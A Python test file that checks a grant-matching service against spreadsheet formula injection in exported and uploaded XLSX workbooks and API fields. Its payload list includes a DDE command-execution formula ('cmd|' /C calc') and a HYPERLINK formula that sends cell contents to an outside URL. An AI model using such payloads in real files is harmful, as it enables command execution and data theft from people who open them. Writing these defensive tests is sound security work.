"""A text that a spreadsheet would take for a formula is a text in whatever is taken away."""

import json
import re
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from api.http.middleware.bodies import JSON, XLSX
from api.schemas.documents import EXAMPLE
from matcher import Options, load_round, match
from matcher.domain import formulas
from matcher.writing.result_folder import write_result
from matcher.writing.result_workbook import write_workbook
from tests.service.applying import DONOR, LOOMS, POOL, WEAVERS, opened, registered, submitted
from tests.service.conftest import Home
from tests.service.test_uploads import ID

COMMANDS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org/?"&A1,"look")',
    "http://example.org/",
    "{=A1}",
)


def document(command: str) -> dict[str, Any]:
    """Give a round with a command wherever people write what they like."""
    made: dict[str, Any] = json.loads(json.dumps(EXAMPLE))
    made["round"]["title"] = command
    made["donors"][0]["name"] = made["pools"][0]["name"] = command
    made["pools"][0]["condition"] = command
    made["organisations"][0]["name"] = made["proposals"][0]["title"] = command
    pin = {"pool_id": "P1", "proposal_id": "A1", "status": "prefer", "reason": command}
    fact = {"subject": "O1", "fact": "registered_in_az", "value": "true", "source": command}
    return made | {"pairs": [pin], "facts": [fact]}


def sheets(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                yield archive.read(name).decode()


def check_plain(content: bytes, command: str, times: int) -> None:
    """Check that a workbook holds a command so often at least, and nothing that acts."""
    for sheet in sheets(content):
        assert not re.search(r"<f[ >]|<hyperlink|<oleObject|<externalReference", sheet)
    book = CalamineWorkbook.from_filelike(BytesIO(content))
    cells = [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
    ]
    assert cells.count(command) >= times


@pytest.mark.parametrize("command", COMMANDS)
def test_a_round_that_is_taken_away_holds_no_formula(home: Home, command: str) -> None:
    client = home.client("coordinator")
    content = json.dumps(document(command)).encode()
    sent = client.post("/rounds/uploads", content=content, headers={"Content-Type": JSON})
    assert sent.status_code == 201, sent.text
    path = f"/rounds/{ID}/document"
    taken = client.get(path, params={"format": "xlsx"})
    assert taken.headers["Content-Type"] == XLSX
    assert taken.headers["Content-Disposition"].startswith("attachment")
    check_plain(taken.content, command, 8)
    # It is read again as it was, and acts no more on the second way than on the first.
    headers = {"Content-Type": XLSX, "If-Match": taken.headers["ETag"]}
    again = client.put(path, content=taken.content, headers=headers)
    assert again.json()["changes"] == {"added": 0, "changed": 0, "removed": 0}
    assert again.json()["content_hash"] == sent.json()["content_hash"]


def test_a_formula_in_what_is_sent_is_taken_by_its_value_and_never_worked_out(
    home: Home, tmp_path: Path
) -> None:
    client = home.client("coordinator")
    client.post("/rounds/uploads", content=json.dumps(EXAMPLE), headers={"Content-Type": JSON})
    path = f"/rounds/{ID}/document"
    plain = client.get(path, params={"format": "xlsx"}).content
    sent = BytesIO()
    with zipfile.ZipFile(BytesIO(plain)) as old, zipfile.ZipFile(sent, "w") as new:
        for name in old.namelist():
            text = old.read(name).decode()
            if name.startswith("xl/worksheets/"):
                live = r'<c\1 t="str"><f>1+WEBSERVICE("http://x")</f><v>embassy</v></c>'
                index = shared(old, "embassy")
                text = re.sub(rf'<c( r="\w+"[^>]*) t="s"><v>{index}</v></c>', live, text)
            new.writestr(name, text)
    headers = {"Content-Type": XLSX, "If-Match": "*"}
    answer = client.put(path, content=sent.getvalue(), headers=headers)
    assert "<f>" in "".join(sheets(sent.getvalue()))
    assert answer.json()["changes"] == {"added": 0, "changed": 0, "removed": 0}


FORMULAS = (*COMMANDS[:5], "- Youth work", "\t=1+1")
"""What is taken for a formula and is sent by itself; what only looks like a link is a text."""
NUMBERS = ("+994 12 404-12-12", "-5", "+3,5", "- 12 %", "-", "Youth - work", "1=1", "2@home")


def check_refused(answer: Any, field: str) -> None:
    """Check that a text is refused in plain words where it was sent."""
    assert answer.status_code == 422, answer.text
    (told,) = answer.json()["errors"]
    assert (told["field"], told["what"], told["remedy"]) == (
        field, formulas.WHAT, formulas.REMEDY,
    )  # fmt: skip


@pytest.mark.parametrize("command", FORMULAS)
def test_what_a_spreadsheet_would_work_out_is_refused_where_applicants_send_it(
    home: Home, command: str
) -> None:
    opened(home)
    own, client = registered(home)
    path = f"/rounds/spring/proposals/{submitted(client)['proposal_id']}"
    name, title, match = WEAVERS | {"name": command}, LOOMS | {"title": command}, {"If-Match": "*"}
    check_refused(client.post("/organisations", json=name), "name")
    check_refused(client.put(f"/organisations/{own}", json=name, headers=match), "name")
    check_refused(client.post("/rounds/spring/proposals", json=title), "title")
    check_refused(client.post("/rounds/spring/precheck", json=title), "title")
    check_refused(client.put(path, json=title, headers=match), "title")
    check_refused(client.post(f"{path}/withdrawal", json={"reason": command}), "reason")


@pytest.mark.parametrize("command", FORMULAS)
def test_what_a_spreadsheet_would_work_out_is_refused_in_rows(home: Home, command: str) -> None:
    client = opened(home)
    pool = "/rounds/spring/pools/P1"
    pair = {"pool_id": "P1", "org_id": "O1", "status": "forbid", "reason": command}
    for change in ({"name": command}, {"condition": command}):
        check_refused(client.put(pool, json=POOL | change, headers={"If-Match": "*"}), *change)
    check_refused(client.post("/rounds/spring/donors", json=DONOR | {"name": command}), "name")
    check_refused(client.post("/rounds/spring/pairs", json=pair), "reason")


@pytest.mark.parametrize("name", ["=1+1", "+P", "-P", "@P"])
def test_what_a_spreadsheet_would_work_out_is_refused_as_an_id(home: Home, name: str) -> None:
    client = opened(home)
    own, _ = registered(home)
    proposal = LOOMS | {"org_id": own, "proposal_id": name}
    target = {"id": name, "where": {"region": ["AZ"]}, "min_share": "0.1"}
    check_refused(client.post("/rounds/spring/donors", json=DONOR | {"donor_id": name}), "donor_id")
    check_refused(client.post("/rounds/spring/pools", json=POOL | {"pool_id": name}), "pool_id")
    check_refused(client.post("/rounds/spring/proposals", json=proposal), "proposal_id")
    check_refused(client.post("/rounds/spring/targets", json=target), "id")


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_telephone_numbers_and_signs_within_a_text_are_taken(home: Home, text: str) -> None:
    opened(home)
    _, client = registered(home, name=text)
    assert submitted(client, title=text)["title"] == text


def test_what_was_uploaded_with_a_formula_is_still_answered_and_warned_of(home: Home) -> None:
    client = home.client("coordinator")
    content = json.dumps(document("=1+1")).encode()
    client.post("/rounds/uploads", content=content, headers={"Content-Type": JSON})
    assert client.get(f"/rounds/{ID}/donors").json()["items"][0]["name"] == "=1+1"
    problems = client.get(f"/rounds/{ID}/problems").json()
    assert formulas.WHAT in json.dumps(problems)


def shared(archive: zipfile.ZipFile, text: str) -> int:
    texts = re.findall(r"<t[^>]*>([^<]*)</t>", archive.read("xl/sharedStrings.xml").decode())
    return texts.index(text)


def test_the_workbook_of_a_result_holds_no_formula(tmp_path: Path) -> None:
    sent = tmp_path / "round.json"
    made = document("=cmd|' /C calc'!A0")
    del made["facts"]
    # Ids, too, are what somebody has written.
    text = json.dumps(made).replace('"A1"', '"=1+1"').replace('"O1"', '"@O"')
    sent.write_text(text.replace('"P1"', '"+P"'))
    round_ = load_round(sent)
    write_result(match(round_, Options()), tmp_path / "result")
    write_workbook(tmp_path / "result", tmp_path / "result.xlsx")
    content = (tmp_path / "result.xlsx").read_bytes()
    check_plain(content, "=1+1", 2)
    check_plain(content, "+P", 2)
    check_plain(content, "@O", 2)
